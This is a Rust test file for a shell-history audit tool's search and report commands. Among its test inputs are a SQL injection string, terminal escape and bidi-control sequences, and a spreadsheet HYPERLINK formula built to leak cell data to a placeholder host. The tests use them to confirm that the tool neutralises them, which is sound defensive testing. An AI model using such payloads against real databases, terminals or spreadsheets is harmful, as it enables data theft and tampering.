//! `tmux-audit search` and `report` on databases written by the real
//! `record` path: every filter alone and combined, the pattern kinds, time
//! parsing, each output format read back, exit statuses, colour, terminal
//! width, and the table layouts against snapshots.

use std::ffi::OsStr;
use std::path::Path;
use std::process::Output;

use crate::support::{Rc, Sandbox, Shell, Tmux};

/// 2026-11-25T10:00:00Z, in microseconds.
const T0: i64 = 1_795_600_800_000_000;
const MINUTE: i64 = 60_000_000;

/// One command to record, with a fixed context.
struct Rec<'a> {
    command: &'a [u8],
    session: &'a str,
    seq: i64,
    exit: i64,
    start: i64,
    duration: i64,
    cwd: &'a str,
    pane: Option<&'a str>,
}

fn record(sb: &Sandbox, r: Rec<'_>) {
    let (seq, exit) = (r.seq.to_string(), r.exit.to_string());
    let (start, end) = (r.start.to_string(), (r.start + r.duration).to_string());
    let shell = if r.session.starts_with('z') {
        "zsh"
    } else {
        "bash"
    };
    let args = [
        "--shell",
        shell,
        "--session",
        r.session,
        "--seq",
        &seq,
        "--exit",
        &exit,
        "--start-us",
        &start,
        "--end-us",
        &end,
        "--cwd",
        r.cwd,
    ];
    let env: Vec<(&str, Option<&OsStr>)> = match r.pane {
        Some(pane) => vec![
            ("TMUX", Some(OsStr::new("/tmp/tmux-0/work,4242,3"))),
            ("TMUX_PANE", Some(OsStr::new(pane))),
        ],
        None => Vec::new(),
    };
    let out = sb.record_with(r.command, &args, &env);
    assert!(out.status.success(), "{}", sb.log());
}

/// A small history: two panes of one tmux server and a shell outside tmux.
pub(crate) fn history() -> Sandbox {
    let sb = Sandbox::new();
    // command, shell session, exit status, minute, duration (ms), cwd, pane
    type Row<'a> = (&'a [u8], &'a str, i64, i64, i64, &'a str, Option<&'a str>);
    let rows: [Row; 9] = [
        (b"git status", "b1", 0, 0, 100, "/srv/api", Some("%1")),
        (b"make test", "b1", 2, 1, 65_000, "/srv/api", Some("%1")),
        (
            b"GIT log --oneline",
            "b1",
            0,
            2,
            300,
            "/srv/api/src",
            Some("%1"),
        ),
        (b"rm -rf build", "z1", 0, 3, 1_200, "/srv/web", Some("%2")),
        (
            b"echo \"a,b\" 'c\td'\nsecond line \xe2\x9c\x93",
            "z1",
            0,
            4,
            5,
            "/srv/web",
            Some("%2"),
        ),
        (
            b"curl -sf http://localhost:8080/health",
            "z1",
            7,
            5,
            2_000_000,
            "/srv/web",
            Some("%2"),
        ),
        (b"git status", "b2", 0, 6, 90, "/home/me", None),
        (
            b"'; DROP TABLE commands; --",
            "b2",
            127,
            7,
            3,
            "/home/me",
            None,
        ),
        (b"ls", "b2", 0, 8, 4, "/home/me", None),
    ];
    let mut seqs = std::collections::HashMap::new();
    for (command, session, exit, minute, duration_ms, cwd, pane) in rows {
        let seq = seqs.entry(session).and_modify(|s| *s += 1).or_insert(1);
        record(
            &sb,
            Rec {
                command,
                session,
                seq: *seq,
                exit,
                start: T0 + minute * MINUTE,
                duration: duration_ms * 1000,
                cwd,
                pane,
            },
        );
    }
    sb
}

fn search(sb: &Sandbox, args: &[&str]) -> Output {
    sb.cmd()
        .env("TZ", "UTC")
        .arg("search")
        .args(args)
        .output()
        .unwrap()
}

/// The commands found, oldest first, one per line.
fn found(sb: &Sandbox, args: &[&str]) -> Vec<String> {
    let out = search(sb, &[args, &["--format", "jsonl"]].concat());
    assert!(
        out.status.code() == Some(0) || out.status.code() == Some(1),
        "{out:?}"
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["command"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect()
}

#[test]
fn each_filter_alone_and_combined() {
    let sb = history();
    let all = found(&sb, &[]);
    assert_eq!(all.len(), 9);
    assert_eq!(
        found(&sb, &["--pane", "%1"]),
        ["git status", "make test", "GIT log --oneline"]
    );
    assert_eq!(found(&sb, &["--session", "$3"]).len(), 6);
    assert_eq!(
        found(&sb, &["--session", "3", "--socket", "/tmp/tmux-0/work"]).len(),
        6
    );
    assert_eq!(
        found(&sb, &["--socket", "/tmp/other"]),
        Vec::<String>::new()
    );
    assert_eq!(
        found(&sb, &["--cwd", "/srv/api"]),
        ["git status", "make test"]
    );
    assert_eq!(
        found(&sb, &["--cwd-under", "/srv/api"]),
        ["git status", "make test", "GIT log --oneline"]
    );
    assert_eq!(found(&sb, &["--cwd-under", "/srv"]).len(), 6);
    assert_eq!(found(&sb, &["--shell", "zsh"]).len(), 3);
    assert_eq!(
        found(&sb, &["--exit", "127"]),
        ["'; DROP TABLE commands; --"]
    );
    assert_eq!(
        found(&sb, &["--failed"]),
        [
            "make test",
            "curl -sf http://localhost:8080/health",
            "'; DROP TABLE commands; --"
        ]
    );
    assert_eq!(found(&sb, &["--succeeded"]).len(), 6);
    assert_eq!(
        found(&sb, &["--since", "2026-11-25T10:06:00Z"]),
        ["git status", "'; DROP TABLE commands; --", "ls"]
    );
    assert_eq!(
        found(&sb, &["--until", "2026-11-25T10:01:00Z"]),
        ["git status"]
    );
    assert_eq!(
        found(&sb, &["--min-duration", "1s"]),
        [
            "make test",
            "rm -rf build",
            "curl -sf http://localhost:8080/health"
        ]
    );
    assert_eq!(
        found(&sb, &["--min-duration", "1m"]),
        ["make test", "curl -sf http://localhost:8080/health"]
    );
    let me = whoami::fallible::username().unwrap();
    assert_eq!(found(&sb, &["--user", &me]).len(), 9);
    assert_eq!(found(&sb, &["--user", "nobody-here"]).len(), 0);
    let host = whoami::fallible::hostname().unwrap();
    assert_eq!(found(&sb, &["--host", &host]).len(), 9);
    // Combined.
    assert_eq!(
        found(
            &sb,
            &[
                "--pane",
                "%2",
                "--failed",
                "--since",
                "2026-11-25T10:04:00Z"
            ]
        ),
        ["curl -sf http://localhost:8080/health"]
    );
    assert_eq!(
        found(&sb, &["git", "--cwd-under", "/srv", "--succeeded"]),
        ["git status", "GIT log --oneline"]
    );
}

#[test]
fn here_means_this_pane_or_this_shell() {
    let sb = history();
    let here = |envs: &[(&str, &str)]| {
        let mut cmd = sb.cmd();
        cmd.args(["search", "--here", "--format", "cmd"]);
        for (k, v) in envs {
            cmd.env(k, v);
        }
        String::from_utf8(cmd.output().unwrap().stdout).unwrap()
    };
    assert_eq!(
        here(&[("TMUX", "/tmp/tmux-0/work,4242,3"), ("TMUX_PANE", "%1")]),
        "git status\nmake test\nGIT log --oneline\n"
    );
    assert_eq!(
        here(&[("TMUX_AUDIT_SESSION", "b2")]),
        "git status\n'; DROP TABLE commands; --\nls\n"
    );
    let out = sb.cmd().args(["search", "--here"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn limit_all_reverse_and_unique() {
    let sb = history();
    assert_eq!(
        found(&sb, &["-n", "2"]),
        ["'; DROP TABLE commands; --", "ls"]
    );
    assert_eq!(
        found(&sb, &["-n", "2", "--reverse"]),
        ["ls", "'; DROP TABLE commands; --"]
    );
    assert_eq!(found(&sb, &["--all"]).len(), 9);
    let unique = found(&sb, &["--unique"]);
    assert_eq!(unique.len(), 8);
    assert_eq!(unique.iter().filter(|c| *c == "git status").count(), 1);
}

#[test]
fn pattern_kinds_and_smart_case() {
    let sb = history();
    assert_eq!(
        found(&sb, &["git"]),
        ["git status", "GIT log --oneline", "git status"]
    );
    assert_eq!(
        found(&sb, &["GIT"]),
        ["GIT log --oneline"],
        "an upper-case letter makes it case-sensitive"
    );
    assert_eq!(
        found(&sb, &["ls"]),
        ["ls"],
        "two characters: no trigram index, still found"
    );
    assert_eq!(found(&sb, &["Ls"]), Vec::<String>::new());
    assert_eq!(
        found(&sb, &["--exact", "git status"]),
        ["git status", "git status"]
    );
    assert_eq!(found(&sb, &["--exact", "git"]), Vec::<String>::new());
    assert_eq!(
        found(&sb, &["--prefix", "git"]),
        ["git status", "GIT log --oneline", "git status"]
    );
    assert_eq!(found(&sb, &["--prefix", "status"]), Vec::<String>::new());
    assert_eq!(
        found(&sb, &["--regex", r"^(rm|make)\b"]),
        ["make test", "rm -rf build"]
    );
    assert_eq!(
        found(&sb, &["--regex", r"localhost:\d+"]),
        ["curl -sf http://localhost:8080/health"]
    );
    assert_eq!(
        found(&sb, &["second line ✓"]).len(),
        1,
        "unicode and text after a line break"
    );
    assert_eq!(
        found(&sb, &["100%"]),
        Vec::<String>::new(),
        "LIKE wildcards are plain text"
    );
    // Parameters, not SQL: the text is found and the table is still there.
    assert_eq!(
        found(&sb, &["'; DROP TABLE commands; --"]),
        ["'; DROP TABLE commands; --"]
    );
    assert_eq!(found(&sb, &[]).len(), 9);
}

#[test]
fn times_are_read_in_any_zone() {
    let sb = history();
    // 12:05 at +02:00 is 10:05 UTC.
    assert_eq!(
        found(&sb, &["--since", "2026-11-25T12:05:00+02:00"]).len(),
        4
    );
    // A date alone is local midnight: in Tokyo (+09:00) 2026-11-25 starts at 15:00 UTC the day before.
    let in_tokyo = |since: &str| {
        let out = sb
            .cmd()
            .env("TZ", "Asia/Tokyo")
            .args(["search", "--since", since, "--format", "jsonl"])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().lines().count()
    };
    assert_eq!(in_tokyo("2026-11-25"), 9);
    assert_eq!(
        in_tokyo("2026-11-25 19:07"),
        2,
        "19:07 in Tokyo is 10:07 UTC"
    );
    // Relative forms count back from the real clock; this history lies in
    // the past (2026-11-25), so nothing started after now.
    assert_eq!(found(&sb, &["--since", "now"]).len(), 0);
    assert_eq!(found(&sb, &["--until", "now"]).len(), 9);
}

#[test]
fn bad_input_is_one_line_naming_the_value_with_exit_2() {
    let sb = history();
    for (args, needle) in [
        (vec!["--regex", "(unclosed"], "invalid regex \"(unclosed\""),
        (vec!["--since", "last blue moon"], "last blue moon"),
        (vec!["--min-duration", "fast"], "fast"),
    ] {
        let out = search(&sb, &args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(needle), "{stderr}");
        assert!(out.stdout.is_empty());
        assert_eq!(stderr.lines().count(), 1, "one line: {stderr}");
    }
}

#[test]
fn no_match_prints_nothing_and_exits_1() {
    let sb = history();
    for format in ["table", "json", "csv", "cmd"] {
        let out = search(&sb, &["no such command anywhere", "--format", format]);
        assert_eq!(out.status.code(), Some(1));
        assert!(out.stdout.is_empty() && out.stderr.is_empty());
    }
}

#[test]
fn without_a_database_it_says_so_in_one_line_and_exits_2() {
    let sb = Sandbox::new();
    let out = sb.cmd().arg("search").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with("tmux-audit: error: no database at") && stderr.contains("init"),
        "{stderr}"
    );
}

const TRICKY: &str = "echo \"a,b\" 'c\td'\nsecond line ✓";

#[test]
fn every_format_reads_back_with_the_exact_text() {
    let sb = history();
    // JSON: every field.
    let out = search(&sb, &["second", "--json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let row = &json[0];
    assert_eq!(row["command"], TRICKY);
    assert_eq!(row["started_at"], "2026-11-25T10:04:00.000000Z");
    assert_eq!(row["tmux_pane"], "%2");
    for field in [
        "id",
        "exit_status",
        "duration_ms",
        "cwd",
        "user",
        "uid",
        "host",
        "shell",
        "shell_session",
        "seq",
        "tty",
        "tmux_socket",
        "tmux_server_pid",
        "tmux_session_id",
        "recorded_at",
        "login_uid",
        "sudo_user",
        "ssh_connection",
    ] {
        assert!(row.get(field).is_some(), "missing {field}");
    }
    // JSON lines.
    let out = search(&sb, &["second", "--format", "jsonl"]);
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(line["command"], TRICKY);
    // CSV: quotes, commas, tabs and line breaks survive a real CSV reader.
    let out = search(&sb, &["--format", "csv", "--all"]);
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let headers = reader.headers().unwrap().clone();
    let command = headers.iter().position(|h| h == "command").unwrap();
    let commands: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[command].to_string())
        .collect();
    assert_eq!(commands.len(), 9);
    assert!(commands.contains(&TRICKY.to_string()));
    assert!(commands.contains(&"'; DROP TABLE commands; --".to_string()));
    // TSV: one line per record, escapes undone give the text back.
    let out = search(&sb, &["second", "--format", "tsv"]);
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<_> = text.lines().collect();
    assert_eq!(lines.len(), 2, "header and one record: {text}");
    let column = lines[0].split('\t').position(|h| h == "command").unwrap();
    let field = lines[1].split('\t').nth(column).unwrap();
    let unescaped = field
        .replace("\\n", "\n")
        .replace("\\t", "\t")
        .replace("\\r", "\r")
        .replace("\\\\", "\\");
    assert_eq!(unescaped, TRICKY);
    // Command text only, NUL-separated for xargs -0 / fzf --read0.
    let out = search(&sb, &["--cwd", "/srv/web", "--format", "cmd", "-0"]);
    let parts: Vec<_> = out.stdout.split(|b| *b == 0).collect();
    assert_eq!(parts.len(), 4);
    assert_eq!(parts[1], TRICKY.as_bytes());
}

#[test]
fn the_table_matches_its_snapshot() {
    let sb = history();
    let out = sb
        .cmd()
        .env("TZ", "UTC")
        .env("COLUMNS", "110")
        .env("HOME", "/home/me")
        .args(["search", "--all"])
        .output()
        .unwrap();
    snapshot("search_table.txt", &String::from_utf8(out.stdout).unwrap());
}

#[test]
fn the_table_fits_80_and_120_columns_with_its_key_columns_readable() {
    let sb = history();
    for columns in [80, 120] {
        let out = sb
            .cmd()
            .env("TZ", "UTC")
            .env("COLUMNS", columns.to_string())
            .env("HOME", "/home/me")
            .args(["search", "--all"])
            .output()
            .unwrap();
        let table = String::from_utf8(out.stdout).unwrap();
        for line in table.lines() {
            assert!(
                unicode_width::UnicodeWidthStr::width(line) <= columns,
                "{columns}: {line}"
            );
        }
        // The time of day, the id and the start of each command survive.
        assert!(
            table.contains("10:05") && table.contains("curl -sf"),
            "{table}"
        );
        snapshot(&format!("search_table_{columns}.txt"), &table);
    }
}

#[test]
fn a_narrow_terminal_gets_a_narrow_table_and_colour_only_without_no_color() {
    let sb = history();
    let db = sb.db.display().to_string();
    let bin = sb.bin.display().to_string();
    let (tmux, pane) = Tmux::start(&sb, &sb.shell(Shell::Bash, &Rc::default()));
    pane.ready();
    tmux.run(&["resize-window", "-x", "60", "-y", "30"]);
    pane.line(&format!(
        "clear; TMUX_AUDIT_DB={db} '{bin}' search --failed; echo DONE-'1'"
    ));
    pane.wait_for("DONE-1", 1);
    let screen = tmux.run(&["capture-pane", "-p", "-e", "-J", "-t", &pane.id]);
    let table: Vec<_> = screen
        .lines()
        .filter(|l| l.contains('│') || l.contains('┆'))
        .collect();
    assert!(!table.is_empty(), "{screen}");
    for line in &table {
        let visible = strip_escapes(line);
        assert!(
            visible.chars().count() <= 60,
            "wider than the terminal: {visible}"
        );
    }
    assert!(screen.contains("\x1b["), "colour on a terminal:\n{screen}");

    pane.line(&format!(
        "clear; NO_COLOR=1 TMUX_AUDIT_DB={db} '{bin}' search --failed; echo DONE-'2'"
    ));
    pane.wait_for("DONE-2", 1);
    let screen = tmux.run(&["capture-pane", "-p", "-e", "-t", &pane.id]);
    let table: String = screen.lines().filter(|l| l.contains('┆')).collect();
    assert!(
        !table.is_empty() && !table.contains("\x1b["),
        "NO_COLOR:\n{screen}"
    );
    // Without colour, and piped, the table still fits the terminal.
    for (n, command) in [
        "NO_COLOR=1 TMUX_AUDIT_DB={db} '{bin}' search --all",
        "TMUX_AUDIT_DB={db} '{bin}' search --all | cat",
    ]
    .into_iter()
    .enumerate()
    {
        let command = command.replace("{db}", &db).replace("{bin}", &bin);
        pane.line(&format!("clear; {command}; echo DONE-'{}'", n + 3));
        pane.wait_for(&format!("DONE-{}", n + 3), 1);
        // -J: a line wider than the pane comes back whole, not wrapped.
        let screen = tmux.run(&["capture-pane", "-p", "-J", "-t", &pane.id]);
        let table: Vec<_> = screen.lines().filter(|l| l.contains('┆')).collect();
        assert!(table.len() > 5, "{command}:\n{screen}");
        for line in table {
            assert!(
                line.chars().count() <= 60,
                "{command}: wider than the terminal: {line}"
            );
        }
    }
}

fn strip_escapes(line: &str) -> String {
    let mut out = String::new();
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        if c == '\x1b' {
            for c in chars.by_ref() {
                if c.is_ascii_alphabetic() {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn the_table_escapes_control_characters() {
    let sb = Sandbox::new();
    record(
        &sb,
        Rec {
            command: b"printf '\x1b[31mred\x1b[0m'",
            session: "b",
            seq: 1,
            exit: 0,
            start: T0,
            duration: 1,
            cwd: "/",
            pane: None,
        },
    );
    let out = search(&sb, &[]);
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(!table.contains('\x1b'), "{table}");
    assert!(table.contains(r"printf '\x1b[31mred\x1b[0m'"), "{table}");
}

#[test]
fn every_column_of_every_table_escapes_what_it_shows() {
    let sb = Sandbox::new();
    let out = sb.record_with(
        "echo \u{202e}txt.exe \x1b[2J".as_bytes(),
        &[
            "--shell",
            "bash",
            "--session",
            "s",
            "--seq",
            "1",
            "--exit",
            "0",
            "--cwd",
            "/srv/\x1b[31m\u{2066}x",
        ],
        &[
            ("TMUX", Some(OsStr::new("/tmp/s\x1b]0;pwn\x07,4242,3"))),
            ("TMUX_PANE", Some(OsStr::new("%1\x1b[5m\u{200b}"))),
        ],
    );
    assert!(out.status.success(), "{}", sb.log());
    assert!(sb.cmd().arg("flush").status().unwrap().success());
    // User and host come from the system: as a central store or an import
    // could bring them.
    let conn = rusqlite::Connection::open(&sb.db).unwrap();
    conn.execute(
        "UPDATE commands SET user = 'u\x1b[31m\u{202e}', host = 'h\x1b[1m\u{feff}'",
        [],
    )
    .unwrap();
    drop(conn);
    let mut outputs = vec![search(&sb, &[])];
    for by in crate::support::REPORT_GROUPINGS {
        outputs.push(report(&sb, &["--by", by]));
    }
    for out in outputs {
        assert!(out.status.success(), "{out:?}");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            !text.contains(['\x1b', '\x07', '\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}']),
            "{text}"
        );
        assert!(text.contains("\\x1b["), "shown escaped: {text}");
    }
}

#[test]
fn csv_and_tsv_exports_never_hand_a_spreadsheet_a_formula() {
    let sb = Sandbox::new();
    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1)";
    assert!(
        sb.record_numbered("1", formula).status.success(),
        "{}",
        sb.log()
    );
    for format in ["csv", "tsv"] {
        let out = search(&sb, &["--format", format]);
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("'=HYPERLINK("), "{format}: {text}");
        assert!(
            !text
                .lines()
                .any(|l| l.starts_with('=') || l.contains(",=") || l.contains("\t=")),
            "{format}: {text}"
        );
    }
    let out = search(&sb, &["--format", "jsonl"]);
    let row: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(row["command"], formula, "JSON keeps the exact text");
}

#[test]
fn reports_fit_80_and_120_columns_with_their_groups_readable() {
    let sb = history();
    for columns in [80, 120] {
        let mut all = String::new();
        for by in [
            &["--by", "pane"][..],
            &["--by", "command", "--top", "5"],
            &["--by", "day"],
        ] {
            let out = sb
                .cmd()
                .env("TZ", "UTC")
                .env("COLUMNS", columns.to_string())
                .env("HOME", "/home/me")
                .arg("report")
                .args(by)
                .output()
                .unwrap();
            assert!(out.status.success(), "{out:?}");
            let table = String::from_utf8(out.stdout).unwrap();
            for line in table.lines() {
                assert!(
                    unicode_width::UnicodeWidthStr::width(line) <= columns,
                    "{columns} {by:?}: {line}"
                );
            }
            all.push_str(&table);
        }
        // Groups stay readable: whole panes, commands and days.
        for group in ["%1", "shell b2", "git status", "GIT log", "2026-11-25"] {
            assert!(all.contains(group), "{columns}: {group}\n{all}");
        }
        snapshot(&format!("reports_{columns}.txt"), &all);
    }
}

fn report(sb: &Sandbox, args: &[&str]) -> Output {
    sb.cmd()
        .env("TZ", "UTC")
        .env("COLUMNS", "160")
        .env("HOME", "/home/me")
        .arg("report")
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn report_groups_counts_and_matches_its_snapshot() {
    let sb = history();
    let out = report(&sb, &[]);
    assert!(out.status.success(), "{out:?}");
    snapshot(
        "report_by_pane.txt",
        &String::from_utf8(out.stdout).unwrap(),
    );
    let out = report(&sb, &["--by", "command", "--top", "3"]);
    snapshot(
        "report_by_command_top3.txt",
        &String::from_utf8(out.stdout).unwrap(),
    );
}

#[test]
fn report_json_and_csv_carry_every_figure() {
    let sb = history();
    let out = report(&sb, &["--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rows = json.as_array().unwrap();
    assert_eq!(rows.len(), 3, "two panes and one shell outside tmux");
    let pane2 = rows.iter().find(|r| r["group"] == "%2").unwrap();
    assert_eq!(pane2["commands"], 3);
    assert_eq!(pane2["failures"], 1);
    assert_eq!(pane2["failure_percent"], 33.3);
    assert_eq!(pane2["longest_ms"], 2_000_000.0);
    assert_eq!(pane2["top_cwd"], "/srv/web");
    assert_eq!(pane2["first"], "2026-11-25T10:03:00.000000Z");
    assert_eq!(pane2["tmux_server"], "work:4242");

    let out = report(&sb, &["--by", "day", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 1);
    assert_eq!(&records[0][0], "2026-11-25");

    // The same filters as search narrow what is counted.
    let out = report(&sb, &["--by", "cwd", "--failed", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let groups: Vec<_> = json
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["group"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(groups, ["/home/me", "/srv/api", "/srv/web"]);
    // Most failing first.
    let out = report(&sb, &["--by", "shell", "--format", "json"]);
    assert_eq!(out.status.code(), Some(2), "--by takes only what it knows");
    let out = report(
        &sb,
        &["--by", "user", "--sort", "failures", "--format", "json"],
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json[0]["failures"], 3);
}

/// Compares with `tests/it/snapshots/NAME`; `UPDATE_SNAPSHOTS=1` rewrites it,
/// except in CI, where that fails (see [`snapshot_mode`]).
fn snapshot(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/it/snapshots")
        .join(name);
    let update = std::env::var_os("UPDATE_SNAPSHOTS");
    let ci = std::env::var_os("CI");
    match snapshot_mode(update.as_deref(), ci.as_deref()) {
        Ok(SnapshotMode::Rewrite) => {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, actual).unwrap();
            return;
        }
        Ok(SnapshotMode::Compare) => {}
        Err(why) => panic!("{name}: {why}"),
    }
    let expected = std::fs::read_to_string(&path)
        .unwrap_or_else(|_| panic!("no snapshot {name}; run with UPDATE_SNAPSHOTS=1"));
    assert!(
        expected == actual,
        "{name} differs from its snapshot:\n--- expected\n{expected}\n--- actual\n{actual}"
    );
}

/// What [`snapshot`] does.
#[derive(Debug, PartialEq)]
enum SnapshotMode {
    Compare,
    Rewrite,
}

/// What [`snapshot`] does, given `UPDATE_SNAPSHOTS` and `CI` (which CI
/// services set to `true`): rewriting snapshots in CI would make the tests
/// pass whatever the output, so there it is an error.
fn snapshot_mode(update: Option<&OsStr>, ci: Option<&OsStr>) -> Result<SnapshotMode, String> {
    let in_ci = ci.is_some_and(|v| !v.is_empty() && v != "false" && v != "0");
    match (update.is_some(), in_ci) {
        (false, _) => Ok(SnapshotMode::Compare),
        (true, false) => Ok(SnapshotMode::Rewrite),
        (true, true) => Err(
            "UPDATE_SNAPSHOTS is set in CI (CI is set): snapshots are compared there, \
             never rewritten; unset UPDATE_SNAPSHOTS"
                .into(),
        ),
    }
}

#[test]
fn snapshots_are_rewritten_only_outside_ci() {
    let os = |s: &'static str| Some(OsStr::new(s));
    assert_eq!(snapshot_mode(None, None), Ok(SnapshotMode::Compare));
    assert_eq!(snapshot_mode(None, os("true")), Ok(SnapshotMode::Compare));
    assert_eq!(snapshot_mode(os("1"), None), Ok(SnapshotMode::Rewrite));
    assert_eq!(
        snapshot_mode(os("1"), os("false")),
        Ok(SnapshotMode::Rewrite)
    );
    for ci in ["true", "1", "yes"] {
        let refused = snapshot_mode(os("1"), os(ci));
        assert!(
            refused
                .as_ref()
                .is_err_and(|e| e.contains("UPDATE_SNAPSHOTS")),
            "CI={ci}: {refused:?}"
        );
    }
}

#[test]
fn a_new_command_with_non_ascii_text_is_found_by_its_text() {
    let sb = history();
    assert_eq!(found(&sb, &["second"]).len(), 1, "indexes the history");
    record(
        &sb,
        Rec {
            command: "echo café crème".as_bytes(),
            session: "b3",
            seq: 1,
            exit: 0,
            start: T0 + 20 * MINUTE,
            duration: 1,
            cwd: "/",
            pane: None,
        },
    );
    assert_eq!(found(&sb, &["café"]), ["echo café crème"]);
    assert_eq!(
        found(&sb, &["CAFÉ"]),
        Vec::<String>::new(),
        "upper case: case-sensitive"
    );
}

#[test]
fn unique_keeps_the_run_that_started_last() {
    let sb = Sandbox::new();
    // The later run is recorded first (as a handed-over record can be).
    record(
        &sb,
        Rec {
            command: b"deploy",
            session: "b",
            seq: 1,
            exit: 0,
            start: T0 + 60 * MINUTE,
            duration: 1,
            cwd: "/new",
            pane: None,
        },
    );
    record(
        &sb,
        Rec {
            command: b"deploy",
            session: "b",
            seq: 2,
            exit: 0,
            start: T0,
            duration: 1,
            cwd: "/old",
            pane: None,
        },
    );
    let out = search(&sb, &["--unique", "--format", "jsonl"]);
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(line["cwd"], "/new");
}

#[test]
fn regex_escapes_do_not_make_a_search_case_sensitive() {
    let sb = history();
    assert_eq!(
        found(&sb, &["--regex", r"git\s\S+"]),
        ["git status", "GIT log --oneline", "git status"]
    );
}

#[test]
fn cwd_filters_match_the_logical_path_through_a_symlink() {
    let sb = Sandbox::new();
    let real = sb.path().join("real");
    let link = sb.path().join("link");
    std::fs::create_dir_all(&real).unwrap();
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let link_str = link.display().to_string();
    record(
        &sb,
        Rec {
            command: b"make",
            session: "b",
            seq: 1,
            exit: 0,
            start: T0,
            duration: 1,
            cwd: &link_str,
            pane: None,
        },
    );
    let out = sb
        .cmd()
        .current_dir(&link)
        .env("PWD", &link)
        .args(["search", "--cwd", ".", "--format", "cmd"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "make\n");
    let out = sb
        .cmd()
        .args([
            "search",
            "--cwd-under",
            &format!("{link_str}/"),
            "--format",
            "cmd",
        ])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "make\n");
}

#[test]
fn csv_always_has_the_raw_byte_columns() {
    let sb = Sandbox::new();
    record(
        &sb,
        Rec {
            command: b"plain",
            session: "b",
            seq: 1,
            exit: 0,
            start: T0,
            duration: 1,
            cwd: "/",
            pane: None,
        },
    );
    record(
        &sb,
        Rec {
            command: b"bad \xff",
            session: "b",
            seq: 2,
            exit: 0,
            start: T0 + MINUTE,
            duration: 1,
            cwd: "/",
            pane: None,
        },
    );
    let out = search(&sb, &["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let headers = reader.headers().unwrap().clone();
    let hex = headers
        .iter()
        .position(|h| h == "command_bytes_hex")
        .expect("column");
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(&records[0][hex], "");
    assert_eq!(&records[1][hex], "62616420ff");
}

#[test]
fn report_top_keeps_the_totals_of_everything() {
    let sb = history();
    let out = report(&sb, &["--by", "cwd", "--top", "1"]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.lines()
            .next()
            .unwrap()
            .contains(": 9 commands (the top 1 of 4 cwd rows shown)"),
        "{text}"
    );
    let total = text.lines().find(|l| l.starts_with("│ total")).unwrap();
    assert!(total.contains(" 9 ┆"), "{total}");
}

/// A table too large to keep in memory goes through a temporary file; where
/// none can be made, the report is one line saying what to do, with
/// nothing half written, and both ways the whole table is written.
#[test]
fn a_large_report_table_goes_through_a_temporary_file_or_says_why_not() {
    let sb = Sandbox::new();
    // 40,000 commands of 200 columns: their cells are more than the 8 MiB
    // kept in memory.
    let history = sb.path().join("history");
    let lines: String = (0..40_000)
        .map(|i| format!("echo {i:06} {}\n", "x".repeat(180)))
        .collect();
    std::fs::write(&history, lines).unwrap();
    let out = sb
        .cmd()
        .arg("import")
        .arg("bash")
        .arg(&history)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let report = |tmp: &Path| {
        sb.cmd()
            .env("TMPDIR", tmp)
            .env("COLUMNS", "300")
            .args(["report", "--by", "command"])
            .output()
            .unwrap()
    };
    let out = report(&sb.path().join("no-such-dir"));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        out.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("set TMPDIR to a writable directory"), "{err}");
    let tmp = sb.path().join("tmp");
    let out = report(&tmp);
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("Commands by command") && text.contains(": 40,000 commands"),
        "{}",
        text.chars().take(200).collect::<String>()
    );
    let rows: Vec<&str> = text.lines().filter(|l| l.starts_with("│ echo ")).collect();
    assert_eq!(rows.len(), 40_000);
    // Every command once, each cut to the same width, none lost.
    let numbers: std::collections::BTreeSet<&str> =
        rows.iter().map(|l| &l["│ echo ".len()..][..6]).collect();
